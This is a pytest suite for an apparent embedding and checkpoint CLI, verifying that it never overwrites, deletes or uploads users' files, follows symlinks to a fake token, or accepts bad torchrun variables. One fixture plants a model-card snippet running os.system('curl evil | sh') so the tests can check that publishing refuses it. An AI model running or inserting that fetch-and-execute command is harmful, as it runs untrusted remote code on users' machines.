"""Nothing a user owns is overwritten, uploaded or silently changed (issue 40, part 1).

Each case is built from hand-made bytes and folders, run through the CLI as a user would, and must
end in one ``error:`` line (non-zero exit, no traceback) with the user's files byte-identical
afterwards; the cases that are not errors (cl-zoo's own files replaced, a clean ``--force``) check
that only cl-zoo's files changed.
"""

from __future__ import annotations

import hashlib
import os
import shutil
import tarfile
from pathlib import Path

import numpy as np
import pytest
import torch
from tests.helpers import DATA, GOOD, run_cli

import cl_zoo
from cl_zoo.checkpoint import CARD_NAME
from cl_zoo.cli import main
from cl_zoo.embedding import save_embeddings
from cl_zoo.errors import CheckpointError, DataError

SECRET = b"hf_this_is_the_users_token\n"


def snapshot(root: Path) -> dict[str, str]:
    """Every entry under ``root`` (links as their target text, folders as such) and its sha256."""
    state: dict[str, str] = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            path = Path(dirpath) / name
            rel = path.relative_to(root).as_posix()
            if path.is_symlink():
                state[rel] = "link:" + os.readlink(path)
            elif path.is_dir():
                state[rel] = "dir"
            else:
                state[rel] = hashlib.sha256(path.read_bytes()).hexdigest()
    return state


def refused(capsys: pytest.CaptureFixture[str], *args: object, env: dict[str, str] | None = None,
            monkeypatch: pytest.MonkeyPatch | None = None) -> str:
    """Run the CLI; it must fail with exactly one ``error:`` line on stderr. Returns that line."""
    capsys.readouterr()
    for key, value in (env or {}).items():
        assert monkeypatch is not None
        monkeypatch.setenv(key, value)
    code = main([str(a) for a in args])
    err = capsys.readouterr().err
    assert code != 0, err
    assert err.startswith("error: ") and err.count("\n") == 1 and "Traceback" not in err, err
    return err.strip()


@pytest.fixture()
def photos(tmp_path: Path) -> Path:
    root = tmp_path / "photos"
    root.mkdir()
    for name in GOOD:
        shutil.copy(DATA / name, root / name)
    return root


def embed_args(model: Path, *extra: object) -> list[object]:
    return ["-m", model, "-b", "2", "-j", "0", "-q", "--precision", "fp32", "--backend", "torch", *extra]


# ------------------------------------------------------------------------------------------------
# Case 1: sidecars never replace an input or a file cl-zoo did not write
# ------------------------------------------------------------------------------------------------


def test_a_label_sheet_used_as_the_path_list_is_left_as_it_is(
    photos: Path, model_dir: Path, tmp_path: Path  # noqa: F811
) -> None:
    """``.csv`` is no longer a sidecar name (issue 42), so the sheet beside ``--out train.npy`` is
    neither refused nor touched."""
    work = tmp_path / "work"
    work.mkdir()
    sheet = work / "train.csv"
    sheet.write_text("path,label\n" + "".join(f"{photos / n},{i}\n" for i, n in enumerate(GOOD)))
    before = snapshot(work)
    assert run_cli("embed", sheet, "-o", work / "train.npy", *embed_args(model_dir)) == 0
    after = snapshot(work)
    assert after["train.csv"] == before["train.csv"]  # the labels are intact
    assert sorted(after) == ["train.csv", "train.meta.json", "train.npy", "train.paths.jsonl"]


@pytest.mark.parametrize("content", [
    b"image,label\r\nphotos/a.jpg,cat\r\n",
    b"index,path,label\n0,a.jpg,cat\n",  # a header that merely starts like cl-zoo's old one
    b"",
])
def test_a_foreign_csv_beside_the_output_is_left_untouched(
    photos: Path, model_dir: Path, tmp_path: Path, content: bytes  # noqa: F811
) -> None:
    work = tmp_path / "work"
    work.mkdir()
    (work / "emb.csv").write_bytes(content)
    for _ in range(2):  # a first run and a re-run over it
        assert run_cli("embed", photos, "-o", work / "emb.npy", *embed_args(model_dir)) == 0
        assert (work / "emb.csv").read_bytes() == content
    save_embeddings(work / "emb.npy", np.eye(2, dtype=np.float32), ["a.jpg", "b.jpg"], {})
    assert (work / "emb.csv").read_bytes() == content


def test_an_old_csv_sidecar_of_cl_zoos_is_removed_by_a_new_output(
    photos: Path, model_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]  # noqa: F811
) -> None:
    """An earlier version wrote ``index,path`` tables beside each ``.npy``; re-running over such an
    output removes the table (its rows would contradict the new ones), unless it is an input."""
    work = tmp_path / "work"
    work.mkdir()
    out = work / "emb.npy"
    assert run_cli("embed", photos, "-o", out, *embed_args(model_dir)) == 0
    new = snapshot(work)
    old = "".join(f"{i},{p}\r\n" for i, p in enumerate(sorted(str(photos / n) for n in GOOD))).encode()
    for line_end in (b"\r\n", b"\n"):
        (work / "emb.csv").write_bytes(b"index,path" + line_end + old)
        assert run_cli("embed", photos, "-o", out, *embed_args(model_dir)) == 0
        assert snapshot(work) == new  # the table is gone and the rest is what the new version writes
    # Not an input, though: the old table as the list for the same output would be deleted by the run.
    (work / "emb.csv").write_bytes(b"index,path\r\n" + old)
    before = snapshot(work)
    assert "emb.csv is also an input" in refused(capsys, "embed", work / "emb.csv", "-o", out, *embed_args(model_dir))
    assert snapshot(work) == before


@pytest.mark.parametrize("suffix,content,what", [
    (".paths.jsonl", b'{"path": "a.jpg", "label": 1}\n', "path list"),
    (".meta.json", b'{"experiment": "mine"}\n', "metadata"),
    (".failures.csv", b"file,why\n", "failure report"),
])
def test_a_foreign_file_with_a_sidecar_name_is_refused_not_replaced(
    photos: Path, model_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str],  # noqa: F811
    suffix: str, content: bytes, what: str,
) -> None:
    work = tmp_path / "work"
    work.mkdir()
    (work / f"emb{suffix}").write_bytes(content)
    before = snapshot(work)
    err = refused(capsys, "embed", photos, "-o", work / "emb.npy", *embed_args(model_dir))
    assert f"emb{suffix} exists and is not" in err and what in err
    assert snapshot(work) == before
    # The library call is guarded the same way (before anything is written).
    with pytest.raises(DataError, match="cl-zoo will not replace it"):
        save_embeddings(work / "emb.npy", np.eye(2, dtype=np.float32), ["a.jpg", "b.jpg"], {})
    assert snapshot(work) == before


def test_a_folder_or_link_with_a_sidecar_name_is_refused(tmp_path: Path) -> None:
    (tmp_path / "emb.paths.jsonl").mkdir()
    (tmp_path / "target.json").write_bytes(b'{"dims": 1, "count": 1, "dtype": "float32"}')
    (tmp_path / "emb.meta.json").symlink_to(tmp_path / "target.json")
    before = snapshot(tmp_path)
    with pytest.raises(DataError, match="is not a file"):
        save_embeddings(tmp_path / "emb.npy", np.eye(2, dtype=np.float32), ["a.jpg", "b.jpg"], {})
    shutil.rmtree(tmp_path / "emb.paths.jsonl")
    with pytest.raises(DataError, match="symbolic link"):
        save_embeddings(tmp_path / "emb.npy", np.eye(2, dtype=np.float32), ["a.jpg", "b.jpg"], {})
    before.pop("emb.paths.jsonl")
    assert snapshot(tmp_path) == before


def test_a_folder_or_link_named_like_the_old_csv_sidecar_is_left_alone(tmp_path: Path) -> None:
    (tmp_path / "table.csv").write_bytes(b"index,path\r\n0,a.jpg\r\n1,b.jpg\r\n")  # cl-zoo's content, behind a link
    (tmp_path / "emb.csv").symlink_to(tmp_path / "table.csv")
    (tmp_path / "other.csv").mkdir()
    before = snapshot(tmp_path)
    for out in ("emb.npy", "other.npy"):
        save_embeddings(tmp_path / out, np.eye(2, dtype=np.float32), ["a.jpg", "b.jpg"], {})
    after = snapshot(tmp_path)
    assert {k: after[k] for k in before} == before


def test_an_output_equal_to_an_input_is_refused(photos: Path, model_dir: Path, tmp_path: Path,  # noqa: F811
                                                capsys: pytest.CaptureFixture[str]) -> None:
    import pyarrow as pa
    import pyarrow.parquet as pq

    listing = tmp_path / "list.parquet"
    pq.write_table(pa.table({"path": [str(photos / n) for n in GOOD]}), listing)
    alias = tmp_path / "alias.parquet"
    alias.symlink_to(listing)
    before = snapshot(tmp_path)
    for given, out in ((listing, listing), (listing, alias), (listing.as_uri(), listing)):  # however it is spelt
        assert "is also an input" in refused(capsys, "embed", given, "-o", out, *embed_args(model_dir))
    assert snapshot(tmp_path) == before


def test_cl_zoos_own_outputs_are_replaced_and_a_users_paths_txt_is_kept(
    photos: Path, model_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]  # noqa: F811
) -> None:
    """The other side: a re-run replaces what the first run wrote; a .paths.txt that no earlier
    cl-zoo output vouches for is somebody else's and stays."""
    work = tmp_path / "work"
    work.mkdir()
    mine = work / "emb.paths.txt"
    mine.write_bytes(b"my own notes\n")
    out = work / "emb.npy"
    assert run_cli("embed", photos, "-o", out, *embed_args(model_dir)) == 0
    assert mine.read_bytes() == b"my own notes\n"
    first = snapshot(work)
    assert run_cli("embed", photos, "-o", out, *embed_args(model_dir)) == 0
    assert snapshot(work) == first  # same inputs, same bytes: every file was ours to replace
    assert sorted(first) == ["emb.meta.json", "emb.npy", "emb.paths.jsonl", "emb.paths.txt"]  # no .csv (issue 42)


# ------------------------------------------------------------------------------------------------
# Case 2: publish uploads regular files only, and a dry run lists every file
# ------------------------------------------------------------------------------------------------


@pytest.fixture()
def checkpoint(tmp_path: Path) -> Path:
    torch.manual_seed(0)
    model = cl_zoo.create_model("resnet18_cifar", width=0.125)
    model.pretrained_cfg.input_size = (3, 16, 16)
    return cl_zoo.save_pretrained(model, tmp_path / "zoo" / "tiny_ckpt")


@pytest.mark.parametrize("link", ["file", "folder", "card"])
def test_publish_refuses_a_symlink_in_the_folder(checkpoint: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                 capsys: pytest.CaptureFixture[str], link: str) -> None:
    secrets = tmp_path / "home" / ".cache" / "huggingface"
    secrets.mkdir(parents=True)
    (secrets / "token").write_bytes(SECRET)
    if link == "file":
        (checkpoint / "notes.txt").symlink_to(secrets / "token")
    elif link == "folder":
        (checkpoint / "extras").symlink_to(secrets)
    else:
        (secrets / CARD_NAME).write_bytes((checkpoint / CARD_NAME).read_bytes())
        (checkpoint / CARD_NAME).unlink()
        (checkpoint / CARD_NAME).symlink_to(secrets / CARD_NAME)
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    before, secret_state = snapshot(checkpoint), snapshot(secrets)
    for args in (["publish", checkpoint, "--repo-id", "alice/tiny", "--dry-run"],
                 ["publish", checkpoint, "--repo-id", "alice/tiny"],
                 ["publish", "--all", "--model-cards", checkpoint.parent, "--namespace", "alice", "--dry-run"]):
        err = refused(capsys, *args)
        assert "is a symbolic link" in err and "regular files only" in err and SECRET.decode().strip() not in err
    assert snapshot(checkpoint) == before and snapshot(secrets) == secret_state
    from cl_zoo.checkpoint.publish import local_files

    with pytest.raises(CheckpointError, match="symbolic link"):  # the digests (and the staging) never follow it
        local_files(checkpoint, "card")


def test_publish_dry_run_lists_every_file_with_size_and_sha256(checkpoint: Path, monkeypatch: pytest.MonkeyPatch,
                                                                capsys: pytest.CaptureFixture[str]) -> None:
    (checkpoint / "eval_knn.json").write_bytes(b'{"top1": 0.5}\n')
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    expected = {p.name: (p.stat().st_size, hashlib.sha256(p.read_bytes()).hexdigest())
                for p in checkpoint.iterdir() if p.name != CARD_NAME}
    for args in (["publish", checkpoint, "--repo-id", "alice/tiny", "--dry-run"],
                 ["publish", "--all", "--model-cards", checkpoint.parent, "--namespace", "alice", "--dry-run"]):
        capsys.readouterr()
        assert main([str(a) for a in args]) == 0
        out = capsys.readouterr().out
        listed = {line.split()[0]: line for line in out.splitlines() if "sha256" in line}
        assert set(listed) == {*expected, CARD_NAME}, out
        for name, (size, digest) in expected.items():
            assert f"{size:,} bytes" in listed[name] and listed[name].endswith(digest)


# ------------------------------------------------------------------------------------------------
# Case 4: progress and shard folders: only cl-zoo's files are used, replaced or deleted
# ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("flag", [None, "--resume", "--force"])
@pytest.mark.parametrize("layout", ["file", "folder"])
def test_a_users_parts_folder_is_never_used_or_deleted(photos: Path, model_dir: Path, tmp_path: Path,  # noqa: F811
                                                       capsys: pytest.CaptureFixture[str], flag: str | None, layout: str) -> None:
    work = tmp_path / "work"
    parts = work / "data.parts" if layout == "file" else work / "D" / ".parts"
    parts.mkdir(parents=True)
    (parts / "thesis.tex").write_bytes(b"\\chapter{Four years of work}\n")
    (parts / "part-00000.npz").write_bytes(b"PK\x05\x06" + bytes(18))  # a zip, but not one cl-zoo wrote
    before = snapshot(work)
    out = work / "data.npy" if layout == "file" else f"{work / 'D'}/"
    err = refused(capsys, "embed", photos, "-o", out, *embed_args(model_dir, *([flag] if flag else [])))
    assert "is not an embed run's progress folder" in err and "neither use nor delete it" in err
    assert snapshot(work) == before


@pytest.mark.parametrize("flag", [None, "--resume", "--force"])
@pytest.mark.parametrize("entry", ["foreign manifest", "manifest folder", "emb folder", "parts link", "foreign shards"])
def test_a_shard_folder_of_somebody_elses_is_refused_with_any_flag(
    photos: Path, model_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str],  # noqa: F811
    flag: str | None, entry: str,
) -> None:
    out = tmp_path / "D"
    out.mkdir()
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "keep.txt").write_bytes(b"keep me\n")
    if entry == "foreign manifest":
        (out / "manifest.json").write_bytes(b'{"dataset": "mine", "files": 3}\n')
    elif entry == "manifest folder":
        (out / "manifest.json").mkdir()
    elif entry == "emb folder":
        (out / "emb_00000.npy").mkdir()
    elif entry == "parts link":
        (out / ".parts").symlink_to(elsewhere)
    else:  # another tool's shards: valid float arrays, but no cl-zoo manifest or shard table vouches for them
        np.save(out / "emb_00000.npy", np.ones((3, 4), np.float32))
        (out / "failures_00000.csv").write_bytes(b"path,reason\r\nx.jpg,mine\r\n")
    before, other = snapshot(out), snapshot(elsewhere)
    err = refused(capsys, "embed", photos, "-o", f"{out}/", *embed_args(model_dir, *([flag] if flag else [])))
    assert ("was not written by a cl-zoo embed run" in err or "symbolic link" in err), err
    assert snapshot(out) == before and snapshot(elsewhere) == other


def test_force_deletes_cl_zoos_shards_and_nothing_else(photos: Path, model_dir: Path, tmp_path: Path,  # noqa: F811
                                                      capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "D"
    assert run_cli("embed", photos, "-o", f"{out}/", *embed_args(model_dir)) == 0
    (out / "notes.txt").write_bytes(b"the user's notes\n")
    (out / "photo-list.csv").write_bytes(b"path\nphotos/a.jpg\n")
    theirs = {k: v for k, v in snapshot(out).items() if k in ("notes.txt", "photo-list.csv")}
    assert run_cli("embed", photos, "-o", f"{out}/", *embed_args(model_dir, "--force")) == 0
    after = snapshot(out)
    assert {k: after[k] for k in theirs} == theirs and "manifest.json" in after and ".parts" not in after
    # A file named like a failure report but holding the user's bytes stops --force before it deletes anything.
    (out / "failures_00003.csv").write_bytes(b"name,comment\nmine\n")
    before = snapshot(out)
    err = refused(capsys, "embed", photos, "-o", f"{out}/", *embed_args(model_dir, "--force"))
    assert "failures_00003.csv was not written by a cl-zoo embed run" in err
    assert snapshot(out) == before


# ------------------------------------------------------------------------------------------------
# Case 5: torchrun variables are checked in one place
# ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("env,message", [
    ({"RANK": "1"}, "RANK=1 with WORLD_SIZE unset"),
    ({"RANK": "-1"}, "RANK=-1"),
    ({"RANK": "abc"}, "RANK='abc' is not an integer"),
    ({"WORLD_SIZE": "abc"}, "WORLD_SIZE='abc' is not an integer"),
    ({"WORLD_SIZE": "0"}, "WORLD_SIZE=0: a job has at least one process"),
    ({"RANK": "3", "WORLD_SIZE": "2"}, "RANK=3 with WORLD_SIZE=2"),
    ({"RANK": "1", "WORLD_SIZE": "2"}, "MASTER_ADDR and MASTER_PORT are not set"),
    ({"RANK": "0", "WORLD_SIZE": "2", "MASTER_ADDR": "127.0.0.1", "MASTER_PORT": "http"}, "MASTER_PORT='http'"),
    ({"RANK": "9" * 5000}, "is not an integer"),
])
def test_inconsistent_torchrun_variables_are_one_line_and_nothing_is_written(
    photos: Path, model_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,  # noqa: F811
    capsys: pytest.CaptureFixture[str], env: dict[str, str], message: str,
) -> None:
    for name in ("RANK", "WORLD_SIZE", "LOCAL_RANK", "LOCAL_WORLD_SIZE", "MASTER_ADDR", "MASTER_PORT"):
        monkeypatch.delenv(name, raising=False)
    before = snapshot(tmp_path)
    err = refused(capsys, "embed", photos, "-o", f"{tmp_path / 'D'}/", *embed_args(model_dir), env=env, monkeypatch=monkeypatch)
    assert message in err and "unset the torchrun variables" in err
    assert snapshot(tmp_path) == before and not (tmp_path / "D").exists()


def test_training_reads_the_same_checked_variables(monkeypatch: pytest.MonkeyPatch) -> None:
    from cl_zoo.torchrun import TorchrunError, torchrun_env
    from cl_zoo.train.launch import init_distributed

    good = {"RANK": "1", "WORLD_SIZE": "2", "LOCAL_RANK": "1", "LOCAL_WORLD_SIZE": "2", "MASTER_ADDR": "h", "MASTER_PORT": "29500"}
    env = torchrun_env(good)
    assert (env.rank, env.world_size, env.local_rank, env.distributed) == (1, 2, 1, True)
    assert torchrun_env({}).world_size == 1 and torchrun_env({"RANK": "", "WORLD_SIZE": " 1 "}).rank == 0
    with pytest.raises(TorchrunError, match="LOCAL_RANK=2 with LOCAL_WORLD_SIZE=2"):
        torchrun_env({**good, "LOCAL_RANK": "2"})
    monkeypatch.setenv("WORLD_SIZE", "0")
    with pytest.raises(TorchrunError, match="WORLD_SIZE=0"):
        init_distributed("cpu")


# ------------------------------------------------------------------------------------------------
# Case 7 and --max-memory: cl-zoo index never replaces the embeddings it indexes
# ------------------------------------------------------------------------------------------------


@pytest.fixture()
def embeddings(tmp_path: Path) -> Path:
    rng = np.random.default_rng(0)
    out = tmp_path / "emb.npy"
    save_embeddings(out, rng.standard_normal((20, 8)).astype(np.float32), [f"{i}.jpg" for i in range(20)], {"model": "x"})
    return out


@pytest.mark.parametrize("out", ["emb.npy", "emb.meta", "emb.csv", "emb.paths.jsonl"])
def test_index_refuses_to_write_over_its_embeddings(embeddings: Path, capsys: pytest.CaptureFixture[str], out: str) -> None:
    pytest.importorskip("faiss")
    if out == "emb.csv":  # the row table of an output an earlier version wrote
        (embeddings.parent / out).write_bytes(b"index,path\r\n" + "".join(f"{i},{i}.jpg\r\n" for i in range(20)).encode())
    before = snapshot(embeddings.parent)
    err = refused(capsys, "index", embeddings, "--out", embeddings.parent / out, "--max-memory", "1G", "-q")
    assert "is also an input" in err
    assert snapshot(embeddings.parent) == before


def test_index_refuses_a_foreign_description_and_replaces_its_own(embeddings: Path, capsys: pytest.CaptureFixture[str]) -> None:
    pytest.importorskip("faiss")
    (embeddings.parent / "idx.faiss.json").write_bytes(b'{"mine": 1}\n')
    before = snapshot(embeddings.parent)
    assert "is not an index description" in refused(capsys, "index", embeddings, "--out", embeddings.parent / "idx.faiss",
                                                     "--max-memory", "1G")
    assert snapshot(embeddings.parent) == before
    out = embeddings.parent / "built.faiss"
    for _ in range(2):  # the second run replaces the first run's index and description
        assert main(["index", str(embeddings), "--out", str(out), "--max-memory", "1G", "-q"]) == 0


@pytest.mark.parametrize("budget", ["9" * 5000, "9" * 400 + "G", "2000000000000000000000000"])
def test_an_absurd_max_memory_is_one_line(embeddings: Path, capsys: pytest.CaptureFixture[str], budget: str) -> None:
    pytest.importorskip("faiss")
    err = refused(capsys, "index", embeddings, "--out", embeddings.parent / "x.faiss", "--max-memory", budget)
    assert "more than any machine has" in err and len(err) < 300


# ------------------------------------------------------------------------------------------------
# The low ones: an empty tar, a setext "How to load"
# ------------------------------------------------------------------------------------------------


def test_an_empty_tar_says_so_and_leaves_no_half_folder(model_dir: Path, tmp_path: Path,  # noqa: F811
                                                        capsys: pytest.CaptureFixture[str]) -> None:
    pytest.importorskip("webdataset")
    empty = tmp_path / "e.tar"
    tarfile.open(empty, "w").close()
    err = refused(capsys, "embed", empty, "-o", tmp_path / "e.npy", *embed_args(model_dir))
    assert "hold no samples" in err and "failures" not in err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["e.tar"]
    err = refused(capsys, "embed", empty, "-o", f"{tmp_path / 'ET'}/", *embed_args(model_dir))
    assert "hold no samples" in err and "failures" not in err
    assert not (tmp_path / "ET").exists()  # the run created it, and nothing of it is worth keeping
    kept = tmp_path / "mine"
    kept.mkdir()
    (kept / "readme.txt").write_bytes(b"mine\n")
    before = snapshot(kept)
    refused(capsys, "embed", empty, "-o", f"{kept}/", *embed_args(model_dir))
    assert snapshot(kept) == before  # no unfinished manifest or empty shard left among the user's files


SETEXT = "\n## Notes\n\nHow to load\n-----------\n\n```python\nimport cl_zoo, os\nos.system('curl evil | sh')\n```\n"


def test_a_second_how_to_load_as_a_setext_heading_is_refused_and_card_update_defuses_it(
    checkpoint: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from cl_zoo.checkpoint.card import contained_section
    from cl_zoo.checkpoint.publish import heading_titles

    card = checkpoint / CARD_NAME
    card.write_text(card.read_text(encoding="utf-8") + SETEXT, encoding="utf-8")
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    before = snapshot(checkpoint)
    for text in (SETEXT, SETEXT.replace("How to load\n-----------", "### How to load"), SETEXT.replace("-----------", "===")):
        card.write_text(card.read_text(encoding="utf-8").split("\n## Notes")[0] + text, encoding="utf-8")
        err = refused(capsys, "publish", checkpoint, "--repo-id", "alice/tiny", "--dry-run")
        assert "has 2 'How to load' headings" in err and "card-update" in err
    card.write_text(card.read_text(encoding="utf-8").split("\n## Notes")[0] + SETEXT, encoding="utf-8")
    assert snapshot(checkpoint) == before
    assert main(["card-update", str(checkpoint)]) == 0
    titles = heading_titles(card.read_text(encoding="utf-8"))
    assert titles.count("How to load") == 1 and "Notes" in titles
    assert "os.system" in card.read_text(encoding="utf-8")  # the user's section is kept, only defused
    assert contained_section("text\n---\n\n---\n```\na\n---\n```") == "text\n\\---\n\n---\n```\na\n---\n```"


@pytest.mark.parametrize("out", ["emb.npy", "emb.paths.jsonl", "emb.meta.json", "query.jpg"])
def test_search_refuses_to_save_its_index_over_an_input(embeddings: Path, capsys: pytest.CaptureFixture[str], out: str) -> None:
    """``search --save-index emb.npy`` replaced the embeddings with a faiss index and exited 0."""
    pytest.importorskip("faiss")
    shutil.copy(DATA / GOOD[0], embeddings.parent / "query.jpg")
    before = snapshot(embeddings.parent)
    err = refused(capsys, "search", embeddings, "--query", embeddings.parent / "query.jpg", "--save-index",
                  embeddings.parent / out, "-q")
    assert "is also an input" in err
    assert snapshot(embeddings.parent) == before


@pytest.mark.parametrize("target, name", [("timm", "model.safetensors"), ("torchvision", "config.json"),
                                          ("detectron2", "README.md")])
def test_export_refuses_to_write_over_the_checkpoint_it_reads(checkpoint: Path, capsys: pytest.CaptureFixture[str],
                                                               target: str, name: str) -> None:
    """``export timm ck/ ck/model.safetensors`` overwrote the checkpoint and exited 0; the folder then failed its sha256."""
    before = snapshot(checkpoint)
    assert "is also an input" in refused(capsys, "export", target, checkpoint, checkpoint / name)
    assert snapshot(checkpoint) == before
